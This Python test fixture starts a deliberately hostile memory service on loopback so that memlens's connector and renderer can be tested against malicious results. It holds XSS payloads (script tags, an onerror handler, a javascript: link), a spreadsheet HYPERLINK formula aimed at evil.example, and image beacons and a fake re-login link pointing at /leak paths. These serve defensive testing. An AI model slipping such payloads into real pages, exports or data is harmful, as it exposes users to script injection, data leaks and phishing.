"""A memory service that answers with hostile results, on a real loopback socket.

memlens reaches it through its own HTTP JSON connector (a TOML file describes the
service), so the app tests and the browser tests exercise the same path a team's
in-house service would. Routes:

    POST /inert   a few memories whose text is HTML, a script, Markdown, right-to-left
                  text, and one whose id is a spreadsheet formula
    POST /huge    100,000 results; the first memory's text is 10 MB
    POST /noisy   100,000 results, none with a text field (one connector note each)
    POST /markup  results whose ids, scores and breakdown keys are Markdown and HTML
                  (an <img> pointing back at this service, links, backticks, maths)
    POST /rejects a 400 whose error message is the same markup

GET requests are only recorded (``fetched``): a browser that drew one of the <img>
tags would ask for /leak-....
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

HUGE_ROWS = 100_000
HUGE_TEXT_CHARS = 10 * 1024 * 1024
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak","open me")'
BACKTICK_ID = "`tick` **not bold** ``"

# memory id -> text; scores descend from 0.9 in this order.
INERT = {
    "x-script": "<script>window.__memlens_pwned = 1</script>Likes green tea",
    "x-img": '<img src="x" onerror="window.__memlens_pwned = 2">Has a cat',
    "x-markdown": "**Bold claim** and _emphasis_ with [a link](javascript:alert(1)) and `code`",
    "x-block": "# Not a heading\n- not a list item\n> not a quote",
    "x-streamlit": "Costs $5 to $10 :red[alarm] :material/warning: :material_home: :streamlit: :smile: "
    "~~struck~~ <b>bold tag</b>",
    "x-links": "See http://evil.example/phish or www.evil.example, mail me@evil.example",
    "x-rtl": "המשתמש גר בתל אביב · يسكن المستخدم في القاهرة",
    "x-bidi": "abc\u202edcba\u202c, 👩\u200d💻 and cafe\u0301",
    FORMULA_ID: "A memory whose id a spreadsheet would run as a formula",
    BACKTICK_ID: "A memory whose id is full of backticks",
}


def inert_body() -> dict:
    results = [
        {"id": memory_id, "text": text, "score": round(0.9 - 0.05 * i, 2)} for i, (memory_id, text) in enumerate(INERT.items())
    ]
    return {"results": results}


def huge_body() -> dict:
    # A few distinct words, so the 10 MB text is text and not one long token.
    big = ("Remembers every word of a very long conversation. " * (HUGE_TEXT_CHARS // 50 + 1))[:HUGE_TEXT_CHARS]
    results = [{"id": f"m{i:06d}", "text": f"memory number {i}", "score": round(1 - i / HUGE_ROWS, 6)} for i in range(HUGE_ROWS)]
    results[0]["text"] = big
    return {"results": results}


def noisy_body() -> dict:
    return {"results": [{"id": f"n{i:06d}", "score": 0.5} for i in range(HUGE_ROWS)]}


def markup(url: str, where: str) -> str:
    """Text every renderer could act on: an image fetching from this service, a link,
    backticks breaking a code span, bold, maths."""
    return f'<img src="{url}/leak-{where}"> ![pic]({url}/leak-{where}.png) [Re-login here]({url}/login) `x` **{where}** $x^2$'


def markup_body(url: str) -> dict:
    return {
        "results": [
            {"id": markup(url, "id"), "text": "A memory with a hostile id", "score": 0.9,
             "debug": {"semantic": 0.8, markup(url, "intent"): "lookup"}},
            {"id": "m-2", "text": "A memory with a hostile score", "score": markup(url, "score")},
        ]
    }


def rejects_body(url: str) -> dict:
    return {"error": {"message": markup(url, "400")}}


BODIES = {
    "/inert": lambda url: inert_body(),
    "/huge": lambda url: huge_body(),
    "/noisy": lambda url: noisy_body(),
    "/markup": markup_body,
    "/rejects": rejects_body,
}


class HostileService:
    """The service on 127.0.0.1:<free port>, one thread; responses built once."""

    def __init__(self):
        self._cache: dict[str, bytes] = {}
        self.requests: list[str] = []
        self.fetched: list[str] = []
        service = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                length = int(self.headers.get("Content-Length") or 0)
                self.rfile.read(length)
                service.requests.append(self.path)
                if self.path not in BODIES:
                    self.send_error(404)
                    return
                body = service.body(self.path)
                self.send_response(400 if self.path == "/rejects" else 200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                service.fetched.append(self.path)
                self.send_error(404)

            def log_message(self, *args):  # keep test output quiet
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, name="hostile-service", daemon=True)
        self._thread.start()

    def body(self, path: str) -> bytes:
        if path not in self._cache:
            self._cache[path] = json.dumps(BODIES[path](self.url), ensure_ascii=False).encode("utf-8")
        return self._cache[path]

    def write_config(self, directory: Path, route: str) -> Path:
        """The TOML file memlens's HTTP JSON connector reads for one route."""
        path = Path(directory) / f"hostile-{route.strip('/')}.toml"
        path.write_text(
            f'title = "Hostile service {route}"\n'
            f'base_url = "{self.url}"\n'
            f'path = "{route}"\n'
            'timeout = 60\n'
            "[request.body]\n"
            'query = "{query}"\n'
            'k = "{k}"\n'
            "[response]\n"
            'results = "results"\n'
            'id = "id"\n'
            'text = "text"\n'
            'score = "score"\n'
            + ('breakdown = "debug"\n' if route == "/markup" else ""),
            encoding="utf-8",
        )
        return path

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
